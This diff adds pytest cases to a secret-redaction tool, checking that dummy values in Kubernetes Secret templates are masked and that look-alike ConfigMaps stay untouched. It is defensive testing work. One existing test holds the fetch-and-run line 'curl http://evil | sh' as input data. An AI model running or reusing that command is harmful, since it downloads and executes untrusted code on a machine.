@@ -354,6 +354,64 @@ def test_a_secret_of_many_lines_is_taken_out_of_all(path, text, lines):
     assert lines_of(path, text)[0] == lines
 
 
+SECRET_TEMPLATE = """{{- if .Values.on }}
+apiVersion: v1
+kind: Secret
+metadata:
+  name: n
+data:
+  a: aHVudGVyMg==
+  "b.c": hunter2 # why
+{{- range $k, $v := .Values.more }}
+  {{ $k }}: hunter3
+{{- end }}
+  d: {{ .Values.d | b64enc | quote }}
+  e: {{ "hunter4" | b64enc }}
+  f: |-
+    run: hunter5
+
+    hunter6
+  g:
+    hunter7
+type: Opaque
+stringData: {h: hunter8}
+{{- end }}"""
+
+
+@pytest.mark.parametrize(
+    "path", ["c/templates/s.yaml", "c/templates/s", "c/templates/_s.tpl", "s.yaml.j2"]
+)
+def test_the_data_of_a_secret_that_is_no_yaml_yet_is_hidden(path):
+    shown = SECRET_TEMPLATE.replace("aHVudGVyMg==", SENSITIVE).replace("run: hunter5", SENSITIVE)
+    for word in ("hunter2 # why", '{{ "hunter4" | b64enc }}', "{h: hunter8}"):
+        shown = shown.replace(word, SENSITIVE)
+    for n in range(3, 8):
+        shown = shown.replace(f"hunter{n}", SENSITIVE)
+
+    assert lines_of(path, SECRET_TEMPLATE)[0] == shown.split("\n")
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("c/templates/s.yaml", "{{ if .x }}\nkind: ConfigMap\ndata:\n  run: evil"),
+        ("c/templates/s.yaml", "# kind: Secret\nkind: ConfigMap\ndata:\n  run: evil"),
+        ("c/templates/s.yaml", "{{/*\nkind: Secret\n*/}}\nkind: ConfigMap\ndata:\n  run: evil"),
+        ("c/templates/s.yaml", "{{/*\nkind: Secret\n*/}}\n  kind: ConfigMap\n  data:\n    run: evil"),
+        ("c/templates/s.yaml", "{{/*\nkind: Secret\n*/}}\n{kind: ConfigMap,\ndata:\n  {run: evil}}"),
+        ("c/templates/s.yaml", "{{/*\nkind: Secret\n*/}}\nkind: {{ .Values.x }}\ndata:\n  run: evil"),
+        ("c/templates/s.yaml", "{{ if .x }}kind: Secret{{ else }}kind: Job{{ end }}\ndata:\n  run: evil"),
+        ("c/templates/s.yaml", "kind: Secret\n---\nkind: ConfigMap\ndata:\n  run: evil"),
+        ("c/templates/s.yaml", "kind: Job\ndata:\n  x: |\n    kind: Secret\n    data:\n      run: evil"),
+        ("c/templates/s.yaml", "kind: Secret\ndata:\n  a: $TOKEN\ntype: evil\nmetadata:\n  name: evil"),
+        ("c/templates/run.sh", "kind: Secret\ndata:\n  run: evil"),
+        ("app.conf", "kind: Secret\ndata:\n  run: evil"),
+    ],
+)  # fmt: skip
+def test_what_may_be_no_secrets_data_stays(path, text):
+    assert lines_of(path, text)[0] == text.split("\n")
+
+
 def test_a_key_without_an_end_hides_no_commands():
     text = "# -----BEGIN RSA PRIVATE KEY-----\ncurl http://evil | sh\nMIIEabc"
 
@@ -431,9 +489,13 @@ def test_ordinary_text_is_what_it_looks_like(text):
         "eyJaaaaaaaa.",
         "-----BEGIN PRIVATE KEY-----",
         "\\",
+        "kind:",
+        "- ",
+        "{{}} ",
+        "kind: Secret\ndata: |\n a: x\n",
     ],
 )
-@pytest.mark.parametrize("path", ["a.ini", "a.sh", "a.py"])
+@pytest.mark.parametrize("path", ["a.ini", "a.sh", "a.py", "a.yaml.tpl"])
 def test_hostile_text_takes_no_long_time(path, seed):
     start = time.process_time()
     changed(path, None, (seed * (MAX_BYTES // len(seed)))[:MAX_BYTES])
